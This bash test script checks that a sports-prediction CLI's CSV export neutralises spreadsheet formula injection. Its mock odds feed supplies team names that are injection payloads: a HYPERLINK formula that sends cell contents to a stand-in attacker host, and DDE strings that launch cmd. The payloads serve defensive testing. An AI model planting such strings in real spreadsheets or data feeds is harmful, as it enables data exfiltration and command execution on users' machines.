#!/usr/bin/env bash
# predict_csv_formula.sh — `aps predict --format csv` never hands a spreadsheet a formula. A sport
# without a curated team list (NCAAB here) keys a team by the name its provider sends, so a
# TheOddsAPI answer naming its sides =HYPERLINK(…), @SUM(…)|cmd…, +… and -… puts those keys in
# the store; the batch predictions of those games write each of them quoted after an apostrophe
# (the text it is, never a formula), every other field as before, and JSON as it was.
# One season of NCAAB history (APS_DATA_DIR), a small local stand-in of TheOddsAPI's odds
# endpoint, SQLite. Needs: APS_BIN, python3, jq, sqlite3.
set -uo pipefail
: "${APS_BIN:?APS_BIN is the aps binary}"
SRC=${APS_SOURCE_DIR:-$(cd "$(dirname "$0")/../.." && pwd)}
DATA=${APS_DATA_DIR:-$SRC/../shared/data}
season="$DATA/sportsbookreview/ncaab/ncaa-basketball-2010-11.csv"
[ -f "$season" ] || { echo "FAIL: $season not found (APS_DATA_DIR names the shared data)"; exit 1; }
for t in python3 jq sqlite3; do
  command -v "$t" > /dev/null || { echo "FAIL: $t is required (scripts/bootstrap installs it)"; exit 1; }
done
work=$(mktemp -d)
srv_pid=
cleanup() {
  [ -n "$srv_pid" ] && kill "$srv_pid" 2> /dev/null
  rm -rf "$work"
}
trap cleanup EXIT
pass=0 fail=0
check() { if [ "$2" == "$3" ]; then pass=$((pass + 1)); else fail=$((fail + 1)); echo "FAIL: $1: expected '$2', got '$3'"; fi; }

# TheOddsAPI's answer for NCAAB: two games whose four sides a spreadsheet would read as formulas
cat > "$work/odds.json" << 'EOF'
[{"id":"f1","sport_key":"basketball_ncaab","sport_title":"NCAAB","commence_time":"2026-12-06T00:00:00Z",
  "home_team":"=HYPERLINK(\"http://evil.example/?\"&A1,\"Duke\")","away_team":"@SUM(1+1)*cmd|' /C calc'!A0",
  "bookmakers":[{"key":"fanduel","title":"FanDuel","last_update":"2026-12-05T11:00:00Z","markets":[{"key":"h2h",
    "outcomes":[{"name":"=HYPERLINK(\"http://evil.example/?\"&A1,\"Duke\")","price":1.6},{"name":"@SUM(1+1)*cmd|' /C calc'!A0","price":2.4}]}]}]},
 {"id":"f2","sport_key":"basketball_ncaab","sport_title":"NCAAB","commence_time":"2026-12-06T02:00:00Z",
  "home_team":"+1+cmd|' /C calc'!A0","away_team":"-2+3",
  "bookmakers":[{"key":"fanduel","title":"FanDuel","last_update":"2026-12-05T11:00:00Z","markets":[{"key":"h2h",
    "outcomes":[{"name":"+1+cmd|' /C calc'!A0","price":1.9},{"name":"-2+3","price":1.9}]}]}]}]
EOF
cat > "$work/server.py" << 'EOF'
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def do_GET(self):
        ok = self.path.split('?')[0] == '/v4/sports/basketball_ncaab/odds'
        data = open(sys.argv[1], 'rb').read() if ok else b'{"message":"not found"}'
        self.send_response(200 if ok else 404)
        self.send_header('Content-Type', 'application/json')
        self.send_header('Content-Length', str(len(data)))
        self.end_headers()
        self.wfile.write(data)
s = http.server.HTTPServer(('127.0.0.1', 0), H)
open(sys.argv[2], 'w').write(str(s.server_address[1]))
s.serve_forever()
EOF
python3 "$work/server.py" "$work/odds.json" "$work/port" &
srv_pid=$!
for _ in $(seq 50); do [ -s "$work/port" ] && break; sleep 0.1; done

export ENVIRONMENT=development LOG_LEVEL=WARNING DATABASE_URL="sqlite:///$work/aps.db" REDIS_URL=
export MODEL_OUTPUT_PATH="$work/models" APS_MIGRATIONS_DIR="$SRC/migrations"
provider="http://127.0.0.1:$(cat "$work/port")/v4"
export ODDS_API_KEY=test-key ODDS_API_BASE_URL="$provider" ODDS_API_ODDS_FORMAT=decimal
export COLLECT_MAX_ATTEMPTS=1 COLLECT_TIMEOUT_MS=2000
"$APS_BIN" migrate > /dev/null || { echo "FAIL: migrate"; exit 1; }
"$APS_BIN" ingest sbr "$season" --quiet > /dev/null || { echo "FAIL: ingest $season"; exit 1; }
"$APS_BIN" collect odds --sport NCAAB --now 2026-12-05T12:00:00Z > "$work/collect.log" 2>&1
check "collect odds: exit 0" 0 "$?"
check "the provider's four names are team keys" 4 "$(sqlite3 "$work/aps.db" "SELECT COUNT(*) FROM teams t JOIN sports s ON s.id = t.sport_id WHERE s.code = 'NCAAB' AND substr(t.key, 1, 1) IN ('=', '@', '+', '-')")"
"$APS_BIN" train --sport NCAAB --market moneyline --budget 20 --max-models 2 --quiet > "$work/train.log" 2>&1
model=$(sqlite3 "$work/aps.db" "SELECT name FROM models ORDER BY id DESC LIMIT 1")
[ -n "$model" ] || { echo "FAIL: no NCAAB model trained"; cat "$work/train.log"; exit 1; }

"$APS_BIN" predict --model "$model" --from 2026-12-05 --to 2026-12-06 --format csv > "$work/p.csv" 2> /dev/null
check "predict csv: exit 0" 0 "$?"
# the fields as a CSV reader (and a spreadsheet importing text) sees them
fields() { python3 -c 'import csv, sys
for r in list(csv.reader(open(sys.argv[1])))[1:]: print("\t".join(r[int(i)] for i in sys.argv[2:]))' "$work/p.csv" "$@"; }
check "predict csv: the two games" 2 "$(fields 0 | wc -l)"
check "predict csv: each side the provider named, after an apostrophe" \
  "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Duke\")	'@SUM(1+1)*cmd|' /C calc'!A0
'+1+cmd|' /C calc'!A0	'-2+3" "$(fields 3 4)"
check "predict csv: no field a spreadsheet takes for a formula" 0 "$(fields 0 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 | tr '\t' '\n' | grep -c '^[-=+@]')"
check "predict csv: the rest of each row as before" "2026-12-05,2026-27,scheduled,$model,moneyline,home,away" \
  "$(fields 1 2 5 8 9 14 16 | head -1 | tr '\t' ',')"
# a past game of teams named by the history: its keys as they are
"$APS_BIN" predict --model "$model" --from 2011-03-01 --to 2011-03-01 --format csv > "$work/p.csv" 2> /dev/null
rows=$(tail -n +2 "$work/p.csv" | wc -l)
check "predict csv: a day of history, its teams' keys unquoted" "1 0" \
  "$([ "$rows" -gt 10 ] && echo 1 || echo "$rows rows") $(cut -d, -f4,5 "$work/p.csv" | tail -n +2 | grep -c "[\"']")"
"$APS_BIN" predict --model "$model" --from 2026-12-05 --to 2026-12-06 --format json > "$work/p.json" 2> /dev/null
check "predict json: the names as stored" "=HYPERLINK(\"http://evil.example/?\"&A1,\"Duke\")|-2+3" \
  "$(jq -r '[.[0].home, .[1].away] | join("|")' "$work/p.json")"

echo "predict_csv_formula: $pass passed, $fail failed"
[ "$fail" -eq 0 ]
